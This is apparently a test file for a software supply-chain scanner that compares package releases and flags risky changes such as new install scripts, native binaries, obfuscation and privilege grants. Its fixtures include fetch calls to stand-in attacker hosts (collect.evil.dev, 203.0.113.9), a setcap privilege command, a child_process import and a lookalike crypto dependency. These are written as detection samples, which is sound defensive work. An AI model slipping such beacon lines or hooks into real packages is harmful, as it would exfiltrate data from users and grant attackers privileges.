// SPDX-License-Identifier: Apache-2.0
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test } from "node:test";
import { sightingsOf } from "./assessment.ts";
import { detectors } from "./detectors.ts";
import { pe } from "./facts/pe-file.test-support.ts";
import type { Pair } from "./pair.ts";
import { changed, manifest, pairOf, plainFiles } from "./release.test-support.ts";

/** For each signal a release that shows it: what one has to change for anybody to see it. */
const showing: Readonly<Record<string, () => Promise<Pair>>> = {
  "install-script-added": () => changed({ "package.json": manifest({ scripts: { postinstall: "node setup.js" } }) }),
  "install-script-changed": () =>
    pairOf(
      { version: "1.0.0", files: { "package.json": manifest({ scripts: { install: "node-gyp rebuild" } }) } },
      { version: "1.0.1", files: { "package.json": manifest({ scripts: { install: "node-gyp rebuild && node x.js" } }) } },
    ),
  "build-file-added": () => changed({ "binding.gyp": "{}" }),
  "native-first": () => changed({ "a.node": elf }),
  "native-added": () =>
    pairOf(
      { version: "1.0.0", files: { ...plainFiles, "a.node": elf } },
      { version: "1.0.1", files: { ...plainFiles, "a.node": elf, "b.node": Buffer.concat([elf, Buffer.from("b")]) } },
    ),
  "native-changed": () =>
    pairOf(
      { version: "1.0.0", files: { "a.node": elf } },
      { version: "1.0.1", files: { "a.node": Buffer.concat([elf, Buffer.from("!")]) } },
    ),
  "native-imports": () =>
    pairOf(
      { version: "1.0.0", files: { "a.dll": pe("kernel32.dll", "Sleep") } },
      { version: "1.0.1", files: { "a.dll": pe("kernel32.dll", "CreateProcessW") } },
    ),
  "overlay-added": () =>
    pairOf(
      { version: "1.0.0", files: { "a.dll": pe("kernel32.dll", "Sleep") } },
      { version: "1.0.1", files: { "a.dll": Buffer.concat([pe("kernel32.dll", "Sleep"), Buffer.alloc(64, 7)]) } },
    ),
  "archive-added": () => changed({ "vendor.zip": Buffer.from("504b030414000000", "hex") }),
  "dependency-added": () => changed({ "package.json": manifest({ dependencies: { ms: "^2.1.3", "left-pad": "1.3.0" } }) }),
  "dependency-phantom": () => changed({ "package.json": manifest({ dependencies: { ms: "^2.1.3", "plain-crypto-js": "4.2.1" } }) }),
  "dependency-young": () =>
    changed({ "package.json": manifest({ dependencies: { ms: "^2.1.3", fresh: "1.0.0" } }) }, { dependencyAges: { fresh: 18 } }),
  "dependency-from-url": () => changed({ "package.json": manifest({ dependencies: { ms: "git+https://git.example/ms" } }) }),
  "dependency-range": () => changed({ "package.json": manifest({ dependencies: { ms: "^3.0.0" } }) }),
  "capability-dangerous": () => changed({ "lib/format.js": `import { exec } from "node:child_process";\n` }),
  "capability-other": () => changed({ "lib/format.js": `import { readFileSync } from "node:fs";\n` }),
  "host-added": () => changed({ "lib/format.js": `fetch("https://collect.evil.dev/x");\n` }),
  "domain-added": () => changed({ "lib/format.js": `fetch("https://collect.evil.dev/x");\n` }),
  "address-added": () => changed({ "lib/format.js": `fetch("http://203.0.113.9:8080/x");\n` }),
  "long-line-in-old-file": () => changed({ "lib/format.js": `x(${"1+".repeat(3000)}1);\n` }),
  "long-line-outside-dist": () => changed({ "lib/new.js": `x(${"1+".repeat(3000)}1);\n` }),
  "hex-names": () => changed({ "lib/format.js": Array.from({ length: 12 }, (_, n) => `const _0x${4096 + n} = ${n};`).join("\n") }),
  "escaped-text": () => changed({ "lib/format.js": `const t = [${`"${"\\x41".repeat(8)}",`.repeat(4)}];\n` }),
  "base64-blob": () => changed({ "lib/format.js": `const b = "${"QUJD".repeat(200)}";\n` }),
  "invisible-text": () => changed({ "lib/format.js": `const t = "${"\u200b".repeat(20)}";\n` }),
  "code-entropy": () =>
    changed({ "lib/format.js": randomBytes(4096).toString("base64url").replaceAll("A", "é") + randomBytes(2048).toString("latin1") }),
  "dense-file": () => changed({ "data.bin": Buffer.concat([Buffer.from([1]), randomBytes(8192)]) }),
  setuid: () => changed({ "bin/tool": { mode: 0o4755, bytes: Buffer.from("x") } }),
  "file-capability": () => changed({ "bin/tool": { fileCapabilities: true, bytes: Buffer.from("x") } }),
  "executable-added": () => changed({ "bin/tool": { mode: 0o755, bytes: Buffer.from("x") } }),
  "executable-made": () => changed({ "lib/format.js": { mode: 0o755, bytes: Buffer.from(plainFiles["lib/format.js"] as string) } }),
  "system-file-added": () => changed({ "etc/systemd/system/agent.service": "[Service]\nExecStart=/opt/agent\n" }),
  "system-file-changed": () =>
    pairOf(
      { version: "1.0.0", files: { "agent.service": "[Service]\n" } },
      { version: "1.0.1", files: { "agent.service": "[Service]\nRestart=always\n" } },
    ),
  "power-gained": () => changed({ "install.sh": "setcap cap_net_admin+ep /opt/agent\n" }),
  "size-1.1": () => changed({ "more.txt": "x".repeat(8192) }),
  "size-1.25": () => changed({ "more.txt": "x".repeat(8192) }),
  "size-2": () => changed({ "more.txt": "x".repeat(8192) }),
  "code-file-tripled": () => changed({ "lib/format.js": "export const a = 1;\n".repeat(2000) }),
  "file-added": () => changed({ "NOTES.md": "new" }),
  "code-file-added": () => changed({ "lib/more.js": "export const more = 1;\n" }),
  "link-added": () => changed({ "bin/link": { type: "link" } }),
  "kind-changed": () => changed({ "lib/format.js": elf }),
  "program-added": () => changed({ "package.json": manifest({ bin: { plain: "cli.js" } }) }),
  "engines-changed": () => changed({ "package.json": manifest({ engines: { node: ">=22" } }) }),
  "version-skipped": () => pairOf({ version: "1.2.3", files: plainFiles }, { version: "1.2.6", files: plainFiles }),
  "publisher-changed": () => changed({}, { publisher: "mallory" }, { publisher: "alice" }),
  "author-changed": () => changed({ "package.json": manifest({ author: { name: "Mallory", email: "mallory@evil.example" } }) }),
  "repository-changed": () => changed({ "package.json": manifest({ repository: "github:mallory/plain" }) }),
  "licence-changed": () => changed({ "package.json": manifest({ license: "GPL-3.0" }) }),
  "origin-downgraded": () => changed({}, { origin: "none" }, { origin: "attested" }),
  "custody-downgraded": () => changed({}, { custody: ["encrypted-file (development)"] }, { custody: ["pkcs11"] }),
  "intent-missing": () => changed({}, { intended: false }, { intended: true }),
  "dormant-180": () => changed({}, { time: 200 * 86_400 }, { time: 0 }),
  "dormant-365": () => changed({}, { time: 400 * 86_400 }, { time: 0 }),
  "dormant-730": () => changed({}, { time: 800 * 86_400 }, { time: 0 }),
  burst: () => changed({}, { withinHour: 3 }),
  "privilege-undeclared": () => changed({ "lib/format.js": `import "node:net";\n` }, { declared: ["process"] }),
};

const elf = Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(120)]);

test("every detector sees what it is for, and a table of all of them is complete", async () => {
  assert.deepEqual(Object.keys(showing).sort(), detectors.map(({ signal }) => signal).sort());
  for (const [signal, make] of Object.entries(showing)) {
    const pair = await make();
    const seen = sightingsOf(pair, detectors).find((sighting) => sighting.signal === signal);
    assert.ok(seen !== undefined && seen.evidence.length > 0, signal);
    for (const { line } of seen.evidence) assert.ok(line === undefined || line >= 1, `${signal}: lines count from 1`);
  }
});

test("a release that is the one before again, under the next number, shows nothing", async () => {
  const pair = await pairOf({ version: "1.2.3", files: plainFiles }, { version: "1.2.4", files: plainFiles });
  assert.deepEqual(sightingsOf(pair, detectors), []);
});

test("what was there before is no news: each signal is silent on the same contents a second time", async () => {
  const lasting = [
    "publisher-changed",
    "origin-downgraded",
    "custody-downgraded",
    "dormant-180",
    "dormant-365",
    "dormant-730",
    "burst",
    "version-skipped",
  ];
  for (const [signal, make] of Object.entries(showing)) {
    if (lasting.includes(signal)) continue; // these are of the circumstances, which the next release has anew
    const { after } = await make();
    const again: Pair = { before: after, after: { ...after, version: "1.2.5" }, bump: "patch" };
    assert.deepEqual(
      sightingsOf(again, detectors).map((sighting) => sighting.signal),
      [],
      signal,
    );
  }
});

test("what nobody knows is neither a finding nor an excuse: without circumstances, only the bytes speak", async () => {
  const pair = await changed({ "lib/format.js": `import "node:net";\n` });
  const signals = sightingsOf(pair, detectors).map(({ signal }) => signal);
  assert.ok(signals.includes("capability-dangerous") && !signals.includes("privilege-undeclared") && !signals.includes("intent-missing"));
});

test("hosts in comments are documentation", async () => {
  const pair = await changed({ "lib/format.js": `// https://collect.evil.dev\n/* see\nhttps://more.evil.dev */\nexport const a = 1;\n` });
  assert.ok(!sightingsOf(pair, detectors).some(({ group }) => group === "network"));
});

test("attack: a string that opens a comment hides no host behind it", async () => {
  const pair = await changed({ "lib/format.js": `const a = "/*"; fetch("https://collect.evil.dev"); const b = "*/";\n` });
  assert.ok(sightingsOf(pair, detectors).some(({ signal }) => signal === "host-added"));
});

test("a file that moves is not new", async () => {
  const { "lib/format.js": format = "", ...others } = plainFiles;
  const pair = await pairOf({ version: "1.2.3", files: plainFiles }, { version: "1.2.4", files: { ...others, "src/format.js": format } });
  assert.deepEqual(sightingsOf(pair, detectors), []);
});
